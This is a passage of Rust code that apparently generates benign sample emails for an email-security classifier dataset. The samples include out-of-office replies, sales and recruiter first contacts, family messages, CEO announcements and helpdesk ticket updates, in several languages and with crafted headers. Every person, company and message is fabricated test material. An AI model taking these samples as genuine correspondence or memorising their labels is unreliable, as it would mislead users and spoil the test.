                    ip: world_ip(&format!("{}-eop", p.domain)),
                    helo: "EUR05-AM6-obe.outbound.protection.outlook.com".into(),
                    auth: Auth::Aligned,
                    known: false,
                };
                (
                    mailbox("Microsoft Outlook", &format!("postmaster@{}", p.domain)),
                    subj,
                    parts,
                    env,
                    Mailer::Outlook,
                )
            }
        };
        let m = msg(
            &name,
            mailer,
            from,
            person(sender),
            &subject,
            date(day, 9 * 60 + i * 11 + 2, 30, "+0000"),
            parts,
        )
        .header("Auto-Submitted", "auto-replied")
        .header("In-Reply-To", &orig_id)
        .header("References", &orig_id);
        out.push(sample(KIND, i, false, sender.1, env, m.render()));
    }
    out
}

/// Out-of-office replies from partners.
fn auto_reply() -> Vec<Sample> {
    const KIND: &str = "auto-reply";
    let mut out = Vec::new();
    for i in 0..12 {
        let name = format!("{KIND}-{i:02}");
        let p = &PARTNERS[i % PARTNERS.len()];
        let rcpt = pick(&[AP, BOB, CFO, DIETER, CARLA, ALICE], i);
        let back = long_date(i + 12);
        let orig = pick(
            &[
                "Invoice query",
                "Delivery schedule for PO 45821",
                "Meeting next week",
                "Updated forecast",
            ],
            i,
        );
        let (prefix, text) = match p.lang {
            "de" => (
                "Automatische Antwort: ",
                format!(
                    "Vielen Dank für Ihre Nachricht. Ich bin bis einschließlich {} nicht im Büro und habe nur eingeschränkt Zugriff auf meine E-Mails.\n\nIn dringenden Fällen wenden Sie sich bitte an info@{}.\n\nMit freundlichen Grüßen\n{}",
                    dmy(i + 12),
                    p.domain,
                    p.contact
                ),
            ),
            "fr" => (
                "Réponse automatique : ",
                format!(
                    "Bonjour,\n\nJe suis absente du bureau jusqu'au {} inclus, avec un accès limité à mes e-mails. Pour toute demande urgente, merci de contacter contact@{}.\n\nCordialement,\n{}",
                    dmy(i + 12),
                    p.domain,
                    p.contact
                ),
            ),
            "es" => (
                "Respuesta automática: ",
                format!(
                    "Gracias por su mensaje. Estaré fuera de la oficina hasta el {} con acceso limitado al correo.\n\nPara asuntos urgentes, pueden escribir a info@{}.\n\nUn saludo,\n{}",
                    dmy(i + 12),
                    p.domain,
                    p.contact
                ),
            ),
            _ => (
                "Automatic reply: ",
                format!(
                    "Thank you for your email. I'm out of the office until {back} with limited access to email.\n\nFor anything urgent, please contact our team at info@{} or call the main office.\n\nBest regards,\n{}",
                    p.domain, p.contact
                ),
            ),
        };
        let mailer = partner_mailer(p);
        let m = msg(
            &name,
            mailer,
            mailbox(p.contact, p.contact_addr),
            mailbox(rcpt.0, rcpt.1),
            &format!("{prefix}{orig}"),
            date(i + 1, 10 * 60 + i * 37, i, "+0100"),
            body_for(mailer, &format!("{text}\n")),
        )
        .header("Auto-Submitted", "auto-replied")
        .header("X-Auto-Response-Suppress", "All")
        .header(
            "In-Reply-To",
            &other_id(&format!("{name}-o"), Mailer::Outlook, "example.org"),
        );
        let env = org_env(
            p.contact_addr,
            i,
            if i % 6 == 5 {
                Auth::SpfOnly
            } else {
                Auth::Aligned
            },
            true,
        );
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// Strangers writing for the first time: quotation requests, partnership
/// and sales pitches, recruiters, students, journalists.
fn first_contact() -> Vec<Sample> {
    const KIND: &str = "first-contact";
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        text: &'static str,
        mailer: Mailer,
        brochure: Option<&'static str>,
    }
    let vs = [
        V {
            display: "Helena Vasquez",
            addr: "h.vasquez@meridian-foods.example",
            to: BOB,
            subject: "Request for quotation - industrial labels",
            text: "Dear Mr. Keller,\n\nI came across Example Org at the LogiMAT fair and would like to request a quotation for thermal transfer labels (100 x 150 mm, approx. 250,000 per year).\n\nCould you let me know your prices, lead times and payment terms? We usually work with 30 days net.\n\nKind regards,\nHelena Vasquez\nProcurement Manager\nMeridian Foods Ltd\nwww.meridian-foods.example",
            mailer: Mailer::Outlook,
            brochure: None,
        },
        V {
            display: "Oliver Grant",
            addr: "oliver.grant@brightpath-consulting.example",
            to: CEO,
            subject: "Introduction - Brightpath Consulting",
            text: "Dear Ms. Doe,\n\nI lead the manufacturing practice at Brightpath Consulting. We recently helped two companies of Example Org's size reduce procurement costs by 8-12% within a year.\n\nWould you be open to a 20-minute call in the coming weeks? I've attached a short overview of our approach.\n\nBest regards,\nOliver Grant\nPartner, Brightpath Consulting\nhttps://www.linkedin.com/in/olivergrant-brightpath",
            mailer: Mailer::Outlook,
            brochure: Some("Brightpath_Overview_2025.pdf"),
        },
        V {
            display: "Sarah Kim",
            addr: "sarah.kim@talentbridge-recruiting.example",
            to: ALICE,
            subject: "Finance roles - candidates available",
            text: "Hi Alice,\n\nI noticed Example Org is hiring a financial controller. We currently represent three qualified candidates with manufacturing backgrounds who are available at short notice.\n\nIf you're open to it, I'd be happy to share anonymised profiles. Our fee is only due on successful placement.\n\nBest,\nSarah Kim\nTalentBridge Recruiting",
            mailer: Mailer::Gmail,
            brochure: None,
        },
        V {
            display: "Lena Hofmann",
            addr: "lena.hofmann.studium@gmail.com",
            to: ALICE,
            subject: "Bewerbung Praktikum Controlling",
            text: "Sehr geehrte Frau Martin,\n\nich studiere Betriebswirtschaft an der Universität Mannheim und interessiere mich sehr für ein sechsmonatiges Praktikum im Controlling bei Example Org ab September.\n\nMeinen Lebenslauf und meine Zeugnisse habe ich angehängt. Über eine Rückmeldung würde ich mich sehr freuen.\n\nMit freundlichen Grüßen\nLena Hofmann",
            mailer: Mailer::Gmail,
            brochure: Some("Lebenslauf_Lena_Hofmann.pdf"),
        },
        V {
            display: "David Osei",
            addr: "d.osei@tradejournal-europe.example",
            to: CEO,
            subject: "Interview request - Trade Journal Europe",
            text: "Dear Ms. Doe,\n\nI'm writing a feature on mid-sized European distributors adapting to new e-invoicing rules and would love to include Example Org's perspective.\n\nWould you or a colleague be available for a 30-minute interview next week? The piece runs in our April issue.\n\nMany thanks,\nDavid Osei\nSenior Reporter, Trade Journal Europe",
            mailer: Mailer::Outlook,
            brochure: None,
        },
        V {
            display: "Marc Lefèvre",
            addr: "marc.lefevre@atelier-lefevre.example",
            to: ALICE,
            subject: "Demande de partenariat",
            text: "Bonjour Madame Martin,\n\nNous sommes un atelier de reliure artisanale basé à Lyon et nous aimerions vous proposer un partenariat pour vos coffrets clients de fin d'année.\n\nSeriez-vous disponible pour un échange téléphonique dans les prochaines semaines ? Vous trouverez notre plaquette en pièce jointe.\n\nBien cordialement,\nMarc Lefèvre",
            mailer: Mailer::Thunderbird,
            brochure: Some("Plaquette_Atelier_Lefevre.pdf"),
        },
        V {
            display: "Andrés Molina",
            addr: "andres.molina@logistica-levante.example",
            to: CARLA,
            subject: "Propuesta de servicios logísticos",
            text: "Estimada Sra. Núñez:\n\nMe pongo en contacto con usted para presentarle nuestros servicios de almacenaje y distribución en la Comunidad Valenciana. Trabajamos con varias empresas de su sector.\n\n¿Le vendría bien una breve llamada la próxima semana?\n\nUn cordial saludo,\nAndrés Molina\nDirector Comercial",
            mailer: Mailer::Outlook,
            brochure: None,
        },
        V {
            display: "Tom Reilly",
            addr: "tom@cloudledger.example",
            to: CFO,
            subject: "Quick question about your AP process",
            text: "Hi John,\n\nQuick question - how is your team handling invoice approvals today? Most finance teams we talk to spend 10+ hours a week chasing approvals by email.\n\nCloudLedger automates matching and approvals, and flags changed supplier bank details before payment. Worth a 15-minute demo?\n\nhttps://cloudledger.example/demo?ref=jsmith\n\nCheers,\nTom Reilly\nAccount Executive, CloudLedger\n\nIf you'd rather not hear from me, just let me know.",
            mailer: Mailer::Gmail,
            brochure: None,
        },
        V {
            display: "Yuki Tanabe",
            addr: "y.tanabe@hoshino-trading.example",
            to: BOB,
            subject: "Inquiry about distribution in Japan",
            text: "Dear Mr. Keller,\n\nWe are a trading company in Osaka specialising in office and logistics supplies. We are interested in distributing your products in Japan.\n\nCould you kindly send us your product catalogue and export price list?\n\nBest regards,\nYuki Tanabe\nHoshino Trading Co., Ltd.",
            mailer: Mailer::Outlook,
            brochure: None,
        },
        V {
            display: "Event Team",
            addr: "speakers@futureofsupplychain.example",
            to: DIETER,
            subject: "Speaking invitation: Future of Supply Chain Summit",
            text: "Dear Mr. Müller,\n\nOn behalf of the programme committee, I'd like to invite you to speak at the Future of Supply Chain Summit in Hamburg on 17 June. We'd be delighted to hear about Example Org's experience with supplier risk management.\n\nSpeakers receive a complimentary full-conference pass. Please let us know by 15 April whether you're interested.\n\nKind regards,\nEvent Team",
            mailer: Mailer::Esp,
            brochure: None,
        },
    ];
    let mut out = Vec::new();
    for i in 0..20 {
        let v = &vs[i % vs.len()];
        let name = format!("{KIND}-{i:02}");
        // The second round: the same people following up once, as they do.
        let follow = i >= vs.len();
        let subject = if follow {
            format!("Re: {}", v.subject)
        } else {
            v.subject.to_string()
        };
        let text = if follow {
            let nudge = match domain_of(v.addr) {
                d if d.contains("atelier") => {
                    "Bonjour,\n\nJe me permets de revenir vers vous concernant mon message ci-dessous. Seriez-vous intéressée ?\n\nCordialement,"
                }
                d if d.contains("levante") => {
                    "Estimada Sra. Núñez:\n\nLe escribo de nuevo por si no le llegó mi mensaje anterior.\n\nUn saludo,"
                }
                "gmail.com" if v.text.starts_with("Sehr") => {
                    "Sehr geehrte Frau Martin,\n\nich wollte mich kurz erkundigen, ob Sie meine Bewerbung erhalten haben.\n\nMit freundlichen Grüßen"
                }
                _ => {
                    "Hi,\n\nJust following up on my note below in case it got buried. Happy to work around your schedule.\n\nBest,"
                }
            };
            format!(
                "{nudge}\n{}\n\n{}",
                v.display,
                quote_gmail(
                    &when(i - vs.len() + 1, 10 * 60),
                    &mailbox(v.display, v.addr),
                    v.text
                )
            )
        } else {
            v.text.to_string()
        };
        let body = match (v.brochure, follow) {
            (Some(file), false) => mixed(vec![
                body_for(v.mailer, &text),
                attachment("application/pdf", file, &pdf(&[v.display, v.subject])),
            ]),
            _ => body_for(v.mailer, &text),
        };
        let mut m = msg(
            &name,
            v.mailer,
            mailbox(v.display, v.addr),
            mailbox(v.to.0, v.to.1),
            &subject,
            date(
                i + 1,
                9 * 60 + i * 41,
                i * 5,
                pick(&["+0000", "+0100", "-0500", "+0900"], i),
            ),
            body,
        );
        if follow {
            let parent = other_id(
                &format!("{KIND}-{:02}", i - vs.len()),
                v.mailer,
                domain_of(v.addr),
            );
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        let env = if domain_of(v.addr) == "gmail.com" {
            freemail_env(v.addr, i, false)
        } else if v.mailer == Mailer::Esp {
            service_env(
                &format!("bounces@{}", domain_of(v.addr)),
                &format!("mail.{}", domain_of(v.addr)),
                Auth::SpfOnly,
                false,
            )
        } else {
            org_env(
                v.addr,
                i,
                if i % 2 == 0 {
                    Auth::SpfOnly
                } else {
                    Auth::Unauthenticated
                },
                false,
            )
        };
        out.push(sample(KIND, i, false, v.to.1, env, m.render()));
    }
    out
}

/// Friends and family writing from free-mail accounts.
fn personal_freemail() -> Vec<Sample> {
    const KIND: &str = "personal-freemail";
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        text: &'static str,
        mailer: Mailer,
        photos: usize,
    }
    let vs = [
        V {
            display: "Emma Keller",
            addr: "emma.keller88@gmail.com",
            to: BOB,
            subject: "Dinner Saturday?",
            text: "Hey,\n\nAre you and Sam free on Saturday? We're thinking of trying the new Italian place near the station, around 7.\n\nEmma",
            mailer: Mailer::Gmail,
            photos: 0,
        },
        V {
            display: "Paul Martin",
            addr: "paul.martin62@orange.fr",
            to: ALICE,
            subject: "Photos de Noël",
            text: "Coucou ma chérie,\n\nVoici enfin les photos de Noël. Ta mère te fait des bisous.\n\nPapa",
            mailer: Mailer::Thunderbird,
            photos: 3,
        },
        V {
            display: "Sabine Müller",
            addr: "sabine.mueller@gmx.de",
            to: DIETER,
            subject: "Geschenk für Mama",
            text: "Hallo Dieter,\n\nich hab jetzt das Geschenk für Mama besorgt (Wellness-Gutschein, 280 €). Kannst du mir deine Hälfte überweisen? 140 € reichen, IBAN hast du ja noch.\n\nLiebe Grüße\nSabine",
            mailer: Mailer::Gmail,
            photos: 0,
        },
        V {
            display: "Rosa López",
            addr: "rosa.lopez.valencia@hotmail.com",
            to: CARLA,
            subject: "Fotos de la boda",
            text: "¡Hola Carla!\n\nTe mando algunas fotos de la boda de Marta. ¡Salisteis guapísimos!\n\nUn beso,\nRosa",
            mailer: Mailer::Outlook,
            photos: 2,
        },
        V {
            display: "Mike Smith",
            addr: "mike.smith.1975@yahoo.com",
            to: CFO,
            subject: "Fantasy league",
            text: "John,\n\nDraft is set for Sunday 8pm. Don't forget to pay the $20 entry into the pot - Venmo is fine.\n\nMike",
            mailer: Mailer::Yahoo,
            photos: 0,
        },
        V {
            display: "Claire Doe",
            addr: "claire.doe@icloud.com",
            to: CEO,
            subject: "Flight details",
            text: "Hi Mum,\n\nHere are my flight details for Easter: LH 1234, arriving Frankfurt Friday 18:40. Can someone pick me up?\n\nLove,\nClaire\n\nSent from my iPhone",
            mailer: Mailer::IPhone,
            photos: 0,
        },
        V {
            display: "Jonas Weber",
            addr: "jonas.weber@web.de",
            to: DIETER,
            subject: "Laufgruppe Sonntag",
            text: "Moin Dieter,\n\nSonntag 9 Uhr am Seeufer wie immer? Diesmal 15 km, Tempo locker.\n\nJonas",
            mailer: Mailer::Thunderbird,
            photos: 0,
        },
        V {
            display: "Ana Núñez",
            addr: "ana.nunez.garcia@gmail.com",
            to: CARLA,
            subject: "Regalo para papá",
            text: "Hola hermana,\n\nHe pensado en regalarle a papá una tarjeta regalo de El Corte Inglés para su cumpleaños, ¿te parece? Ponemos 50 euros cada una.\n\nBesos,\nAna",
            mailer: Mailer::Gmail,
            photos: 0,
        },
        V {
            display: "Tim Baker",
            addr: "tim.baker@outlook.com",
            to: BOB,
            subject: "Photos from the hike",
            text: "Bob,\n\nGreat day on Saturday! Attached a zip with the best photos, the rest are in the shared album.\n\nTim",
            mailer: Mailer::Outlook,
            photos: 9,
        },
        V {
            display: "Lucie Martin",
            addr: "lucie.martin@free.fr",
            to: ALICE,
            subject: "Anniversaire de Léo",
            text: "Salut Alice,\n\nOn fête les 6 ans de Léo samedi 29 à partir de 15h. Vous venez avec les enfants ?\n\nBisous,\nLucie",
            mailer: Mailer::Thunderbird,
            photos: 0,
        },
    ];
    let replies_to_us = [
        "Sounds great, see you then!",
        "Merci beaucoup !",
        "Perfekt, danke dir!",
        "¡Gracias!",
        "Count me in.",
    ];
    let mut out = Vec::new();
    for i in 0..20 {
        let v = &vs[i % vs.len()];
        let name = format!("{KIND}-{i:02}");
        let second = i >= vs.len();
        // Second round: the same people answering the employee's reply.
        let (subject, text) = if second {
            let ours = match v.to.1 {
                "alice@example.org" => "Merci, c'est noté !",
                "dieter@example.org" => "Klar, mache ich heute Abend.",
                "carla@example.org" => "¡Me parece genial!",
                _ => "Sure, sounds good.",
            };
            (
                format!("Re: {}", v.subject),
                format!(
                    "{}\n\n{}",
                    replies_to_us[i % replies_to_us.len()],
                    quote_gmail(&when(i, 19 * 60), &mailbox(v.to.0, v.to.1), ours)
                ),
            )
        } else {
            (v.subject.to_string(), v.text.to_string())
        };
        let text_body = body_for(v.mailer, &format!("{text}\n"));
        let body = if second || v.photos == 0 {
            text_body
        } else if v.photos > 3 {
            let imgs: Vec<(String, Vec<u8>)> = (0..v.photos)
                .map(|n| {
                    (
                        format!("IMG_{:04}.jpg", 4120 + n),
                        jpeg(&format!("{name}{n}")),
                    )
                })
                .collect();
            let entries: Vec<(&str, &[u8])> = imgs
                .iter()
                .map(|(n, d)| (n.as_str(), d.as_slice()))
                .collect();
            mixed(vec![
                text_body,
                attachment("application/zip", "photos.zip", &zip(&entries)),
            ])
        } else {
            let mut parts = vec![text_body];
            for n in 0..v.photos {
                parts.push(attachment(
                    "image/jpeg",
                    &format!("IMG_{:04}.jpg", 2210 + n * 3),
                    &jpeg(&format!("{name}{n}")),
                ));
            }
            mixed(parts)
        };
        let mut m = msg(
            &name,
            v.mailer,
            mailbox(v.display, v.addr),
            mailbox(v.to.0, v.to.1),
            &subject,
            date(
                i / 2 + 3,
                18 * 60 + i * 19,
                i * 7,
                pick(&["+0100", "+0000", "-0500"], i),
            ),
            body,
        );
        if second {
            let parent = other_id(&format!("{name}-p"), Mailer::Outlook, "example.org");
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        out.push(sample(
            KIND,
            i,
            false,
            v.to.1,
            freemail_env(v.addr, i, true),
            m.render(),
        ));
    }
    out
}

/// Company-wide announcements from the CEO's real address.
fn ceo_announcement() -> Vec<Sample> {
    const KIND: &str = "ceo-announcement";
    let notes: [(&str, &str); 8] = [
        (
            "All-hands meeting on Thursday",
            "Dear all,\n\nPlease join our quarterly all-hands on Thursday at 15:00 in the main meeting room or via Teams. We'll review Q1, welcome new colleagues and take your questions.\n\nThe Teams link is in the calendar invitation.\n\nBest,\nJane",
        ),
        (
            "Welcome John Smith, our new CFO",
            "Dear all,\n\nI'm delighted to announce that John Smith joins Example Org as Chief Financial Officer on Monday. John brings fifteen years of experience in finance leadership at industrial distributors.\n\nPlease give him a warm welcome.\n\nJane",
        ),
        (
            "Office move - update",
            "Dear all,\n\nThe move to our new office at Hafenstraße 12 is confirmed for the weekend of 26-27 April. Please pack your desks by Friday 25 April at noon; boxes will be delivered on Monday.\n\nFacilities will send a detailed plan next week.\n\nJane",
        ),
        (
            "Mandatory security awareness training",
            "Dear all,\n\nAs part of our ISO 27001 certification, everyone must complete the 30-minute security awareness training by 31 March. It covers phishing, payment fraud and safe handling of customer data.\n\nYou'll find the course here: https://example-org.trainingportal.example/courses/security-2025\n\nSign in with your usual company account. Thanks for taking the time - it matters.\n\nJane",
        ),
        (
            "Q1 results",
            "Dear all,\n\nA quick note on Q1: revenue grew 7% year on year, and we signed two important new customers in Spain. Thank you all for your hard work.\n\nDetails will follow at Thursday's all-hands.\n\nJane",
        ),
        (
            "Strictly confidential: agreement to acquire Lucerne Publishing's logistics unit",
            "Dear leadership team,\n\nI'm pleased to share that we have signed an agreement to acquire the logistics unit of Lucerne Publishing AG. The transaction is expected to close in Q2, subject to regulatory approval.\n\nPlease keep this strictly confidential until the public announcement on Monday morning. John will share the integration plan at Tuesday's leadership meeting.\n\nJane",
        ),
        (
            "Easter holidays",
            "Dear all,\n\nA reminder that the office will be closed on Good Friday and Easter Monday. Enjoy the long weekend with your families!\n\nJane",
        ),
        (
            "Betriebsausflug im Juni",
            "Liebe Kolleginnen und Kollegen,\n\nunser diesjähriger Betriebsausflug findet am Freitag, 20. Juni, statt. Es geht an den Bodensee. Bitte tragt euch bis Ende April in die Teilnehmerliste im Intranet ein.\n\nIch freue mich auf einen schönen Tag mit euch!\n\nJane",
        ),
    ];
    let mut out = Vec::new();
    for i in 0..15 {
        let name = format!("{KIND}-{i:02}");
        let (subject, text) = notes[i % notes.len()];
        let rcpt = pick(&[BOB, ALICE, CARLA, DIETER, CFO, AP, IT], i);
        let to = if subject.starts_with("Strictly") {
            "Leadership Team <leadership@example.org>"
        } else {
            "All Staff <all@example.org>"
        };
        let m = msg(
            &name,
            Mailer::Outlook,
            person(CEO),
            to.into(),
            subject,
            date(i + 1, 8 * 60 + 30 + i * 3, i, "+0100"),
            outlook_body(&format!(
                "{text}\n\n--\nJane Doe\nChief Executive Officer\nExample Org\n"
            )),
        );
        out.push(sample(
            KIND,
            i,
            false,
            rcpt.1,
            internal_env(CEO.1, i),
            m.render(),
        ));
    }
    out
}

/// Partners' support desks: ticket updates with Reply-To the desk, some
/// hosted on a helpdesk SaaS domain.
fn partner_support() -> Vec<Sample> {
    const KIND: &str = "partner-support";
    let desks: [(&str, &str, &str, &str, &str); 4] = [
        // (display, from, reply-to, envelope, helo)
        (
            "Northwind Support",
            "notifications@northwind.example",
            "Northwind Support <support@northwind.example>",
            "bounces@northwind.example",
            "mail.northwind.example",
        ),
        (
            "Acme Supplies Support",
            "support@acme-supplies.zendesk.com",
            "Acme Supplies Support <support@acme-supplies.example>",
            "support@acme-supplies.zendesk.com",
            "out-3.smtp.zendesk.com",
        ),
        (
            "Tailspin Customer Care",
            "care@tailspin-logistics.freshdesk.com",
            "Tailspin Customer Care <care@tailspin-logistics.example>",
            "care@tailspin-logistics.freshdesk.com",
            "mx-out1.freshdesk.com",
        ),
        (
            "Fabrikam Service Desk",
            "servicedesk@fabrikam.example",
            "Fabrikam Service Desk <servicedesk@fabrikam.example>",
            "servicedesk@fabrikam.example",
            "mail.fabrikam.example",
        ),
    ];
    let updates = [
        (
            "Delivery delay for order 7781",
            "We're sorry for the delay. The order was split into two shipments; the second pallet leaves our warehouse tomorrow morning. We'll update this ticket with the tracking number.",
        ),
        (
            "Damaged goods on delivery 2025-0311",
            "Thank you for the photos. We've approved a replacement for the 4 damaged boxes; they will ship with your next order at no charge. No need to return the damaged items.",
        ),
        (
            "Portal login not working",
            "We've reset the access for your user on our customer portal. You should receive an email from the portal shortly with a link to choose a new password. If it doesn't arrive within an hour, reply to this ticket.",
        ),
        (
            "Request for certificate of origin",
            "Please find the certificates of origin for shipment SH-44127 attached to this ticket in our portal. Let us know if customs need anything else.",
        ),
        (
            "Change of delivery address",
            "Your delivery address for future orders has been updated to Hafenstraße 12. Orders already in transit will still go to the old address.",
        ),
    ];
    let mut out = Vec::new();
    for i in 0..15 {
        let name = format!("{KIND}-{i:02}");
        let (display, from, reply_to, mail_from, helo) = desks[i % desks.len()];
        let (topic, update) = updates[(i + i / 4) % updates.len()];
        let rcpt = pick(&[BOB, AP, CARLA, DIETER, ALICE], i);
        let ticket = 48_200 + i * 37;
        let agent = pick(
            &["Sean Murphy", "Maria Lopez", "Kees de Vries", "Jordan Lee"],
            i,
        );
        let mut rng = Rng::new(&name);
        let portal = format!(
            "https://{}/hc/requests/{ticket}",
            if from.contains("zendesk") {
                "acme-supplies.zendesk.com"
            } else if from.contains("freshdesk") {
                "tailspin-logistics.freshdesk.com"
            } else {
                domain_of(from)
            }
        );
        let h = format!(
            "<html><body style=\"font-family:'Lucida Grande',Verdana,Arial,sans-serif;font-size:14px;color:#2b2e2f\"><div style=\"color:#b5b5b5\">##- Please type your reply above this line -##</div><p>Your request ({ticket}) has been updated. To add additional comments, reply to this email.</p><hr style=\"border:none;border-top:1px solid #ddd\"><p><b>{agent}</b> ({display})<br><span style=\"color:#bbb;font-size:13px\">{}</span></p><p>Hello {},</p><p>{update}</p><p>Best regards,<br>{agent}</p><hr style=\"border:none;border-top:1px solid #ddd\"><p style=\"font-size:12px;color:#888\">You can also view this request online: <a href=\"{portal}\">{portal}</a></p><div style=\"color:#aaa;font-size:10px\">[{}]</div></body></html>\n",
            long_date(i + 2),
            first_name(rcpt),
            rng.chars_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 6)
                + "-"
                + &rng.chars_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 5)
        );
        let m = msg(
            &name,
            Mailer::Esp,
            mailbox(&format!("{agent} ({display})"), from),
            mailbox(rcpt.0, rcpt.1),
            &format!("[{display}] Re: {topic} [#{ticket}]"),
            date(i + 2, 10 * 60 + i * 29, i, "+0000"),
            alt(&html_to_text(&h), &h),
        )
        .header("Reply-To", reply_to)
        .header("Auto-Submitted", "auto-generated")
        .header(
            "In-Reply-To",
            &format!("<{}_{ticket}@{}>", rng.alnum(12), domain_of(from)),
        );
        let env = service_env(mail_from, helo, Auth::Aligned, true);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}
